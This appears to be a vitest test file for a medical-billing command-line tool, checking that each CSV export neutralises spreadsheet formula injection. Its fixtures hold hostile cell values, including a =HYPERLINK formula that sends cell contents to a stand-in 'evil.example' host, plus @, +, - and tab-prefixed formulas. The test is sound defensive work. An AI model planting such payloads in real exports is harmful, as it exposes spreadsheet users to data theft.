// Formula injection in every CSV the CLI prints (balances by line, claim, patient and payer; aging;
// collections; kpis): a hand-made ledger whose text columns hold hostile values (a ChargeID
// `=HYPERLINK(...)`, a PayerID `@SUM(1)`, a payer name `=HYPERLINK(...)`, a ClaimID `+1`, PatientIDs
// `-P1`, `\t=1` and `\r=1`) is run through each --csv output, read back as CSV the way a spreadsheet
// reads it, and no cell may start like a formula unless it is a number the command formatted (money
// such as -20.00 stays a number). The shared cell functions are pinned first (src/cli/csvCells.ts).
import { writeFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { csvDollars, csvLine, csvNumber, csvText } from "../../src/cli/csvCells";
import { isoToSerial } from "../../src/dates";
import { createTableOp } from "../../src/workbook/plan";
import type { CellValue } from "../../src/workbook/port";
import { Charges, Patients, Payers, Payments, Postings } from "../../src/workbook/tables";
import { XlsxWorkbook } from "../../src/workbook/xlsxWorkbook";
import { tempFolder, terminal } from "./terminal";

const { file } = tempFolder("medbill-csv-");

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const PAYER_ID = "@SUM(1)";
const PAYER_NAME = '=HYPERLINK("http://evil.example","Medicare")';
const CLAIM = "+1";
const PATIENTS = ["-P1", "\t=1", "\r=2"];
const HOSTILE = [HYPERLINK, PAYER_ID, PAYER_NAME, CLAIM, ...PATIENTS];

describe("csvCells: one rule for every CSV cell", () => {
  it.each([
    [HYPERLINK, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ["@SUM(1)", `"'@SUM(1)"`],
    ["+1", `"'+1"`],
    ["-20.00", `"'-20.00"`],
    ["\t=1", `"'\t=1"`],
    ["\r=1", `"'\r=1"`],
    ["Smith, Jo", `"Smith, Jo"`],
    ['say "hi"', `"say ""hi"""`],
    ["P1", "P1"],
    ["", ""],
  ])("text %j becomes %s", (value, cell) => {
    expect(csvText(value)).toBe(cell);
  });

  it("numbers the command formats stay numbers: money and figures, negative ones too", () => {
    expect(csvDollars(-2000)).toBe("-20.00");
    expect(csvDollars(123456)).toBe("1234.56");
    expect(csvNumber(-3.04, 1)).toBe("-3.0");
    expect(csvNumber(null, 1)).toBe("");
    expect(csvLine(["PatientID", "=1"])).toBe(`PatientID,"'=1"`);
  });
});

// ---- every --csv output on a hostile ledger ---------------------------------------------------------

const d = (iso: string) => isoToSerial(iso);

/** A table from rows given by header, so the test does not depend on column order. */
function table(def: Parameters<typeof createTableOp>[0] & { fields: object }, rows: Record<string, CellValue>[]) {
  const headers = Object.values(def.fields as Record<string, { header: string }>).map((f) => f.header);
  return createTableOp(
    def,
    rows.map((row) => headers.map((h) => row[h] ?? null)),
  );
}

async function hostileBook(): Promise<string> {
  const book = XlsxWorkbook.create();
  const charge = (id: string, patient: string, payer: string, dos: string, amount: number) => ({
    ChargeID: id,
    ClaimID: id === HYPERLINK ? CLAIM : `C-${id.length}`,
    PatientID: patient,
    PayerID: payer,
    DOS: d(dos),
    POS: "11",
    Code: "99213",
    Dx1: "E11.9",
    Units: 1,
    Amount: amount,
    "Billed Date": d(dos),
  });
  await book.write([
    table(Payers, [{ PayerID: PAYER_ID, "Payer Name": PAYER_NAME, Type: "Commercial", "Timely Filing Days": 365 }]),
    table(Patients, [
      { PatientID: PATIENTS[0], "Last Name": "=CMD()", "First Name": "@A1" },
      { PatientID: PATIENTS[1], "Last Name": "Doe", "First Name": "Jo" },
      { PatientID: PATIENTS[2], "Last Name": "Roe", "First Name": "Al" },
    ]),
    table(Charges, [
      charge(HYPERLINK, PATIENTS[0], PAYER_ID, "2026-01-05", 200),
      charge("L2", PATIENTS[1], "SELF", "2026-01-06", 50),
      charge("L3", PATIENTS[2], "SELF", "2026-01-07", 60),
      charge("L4", PATIENTS[0], PAYER_ID, "2026-02-01", 300),
    ]),
    table(Payments, [
      { PaymentID: "PM1", Date: d("2026-02-10"), PayerID: PAYER_ID, Method: "EFT", Reference: "=EFT()", Amount: 120 },
      { PaymentID: "PM2", Date: d("2026-01-06"), PatientID: PATIENTS[1], Method: "Cash", Reference: "-1", Amount: 70 },
    ]),
    table(Postings, [
      {
        PostingID: "T1",
        PaymentID: "PM1",
        ChargeID: HYPERLINK,
        Date: d("2026-02-10"),
        Paid: 120,
        Adjustment: 50,
        Group: "CO",
        Reason: "45",
        Source: "ERA",
      },
      {
        PostingID: "T2",
        PaymentID: "PM1",
        ChargeID: HYPERLINK,
        Date: d("2026-02-10"),
        Group: "PR",
        Reason: "1",
        "Patient Resp": 30,
        Source: "ERA",
      },
      { PostingID: "T3", PaymentID: "PM2", ChargeID: "L2", Date: d("2026-01-06"), Paid: 70, Source: "Manual" },
    ]),
  ]);
  const name = file("hostile.xlsx");
  writeFileSync(name, await book.save());
  return name;
}

/** The cells of CSV text as a spreadsheet reads them (RFC 4180: quoted fields may hold commas, quotes, CR and LF). */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((cell += '"'), i++);
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") (row.push(cell), (cell = ""));
    else if (c === "\n") (row.push(cell), rows.push(row), (row = []), (cell = ""));
    else cell += c;
  }
  row.push(cell);
  rows.push(row);
  return rows;
}

/** A cell a spreadsheet would run as a formula: starts with = + - @ tab or CR, and is not a plain number. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);

describe("every --csv output neutralises hostile text and keeps negative money a number", () => {
  const runs: [string, string[]][] = [
    ["balances by line", ["balances", "BOOK", "--csv"]],
    ["balances by claim", ["balances", "BOOK", "--by", "claim", "--csv"]],
    ["balances by patient", ["balances", "BOOK", "--by", "patient", "--csv"]],
    ["balances by payer", ["balances", "BOOK", "--by", "payer", "--csv"]],
    ["aging by payer", ["aging", "BOOK", "--as-of", "2026-06-30", "--csv"]],
    ["aging by patient", ["aging", "BOOK", "--as-of", "2026-06-30", "--by", "patient", "--csv"]],
    ["collections", ["collections", "BOOK", "--as-of", "2026-06-30", "--csv"]],
    ["kpis", ["kpis", "BOOK", "--from", "2026-01-01", "--to", "2026-06-30", "--csv"]],
  ];
  let book: Promise<string> | undefined;
  const outputs: Record<string, string> = {};

  it.each(runs)("%s", async (name, argv) => {
    book ??= hostileBook();
    const path = await book;
    const t = terminal();
    expect(await t.run(...argv.map((a) => (a === "BOOK" ? path : a)))).toBeLessThanOrEqual(1);
    const text = t.out.join("\n");
    outputs[name] = text;
    const cells = readCsv(text).flat();
    expect(cells.filter(runsAsFormula)).toEqual([]);
    // A hostile value may sit inside a longer cell (a KPI's inputs name the payer): harmless, as the cell starts with our words.
    for (const hostile of HOSTILE) expect(cells.filter((c) => c.startsWith(hostile.trim()))).toEqual([]);
  });

  it("each hostile value reached some CSV as text behind a quote, and negative money stayed a number", () => {
    const cells = Object.values(outputs).flatMap((text) => readCsv(text).flat());
    // The tables' text is trimmed when read (a leading tab or CR goes), so "\t=1" arrives as "=1".
    for (const hostile of HOSTILE) expect(cells).toContain(`'${hostile.trim()}`);
    // L2: $50 billed, $70 paid by the patient: a $20 credit, written as the number -20.00.
    expect(readCsv(outputs["balances by line"]).find((row) => row[0] === "L2")).toContain("-20.00");
    // A KPI's value is a number (blank when there is nothing to measure), never text behind a quote.
    for (const row of readCsv(outputs.kpis).slice(1)) expect(row[1]).toMatch(/^(-?\d+\.\d)?$/);
  });
});
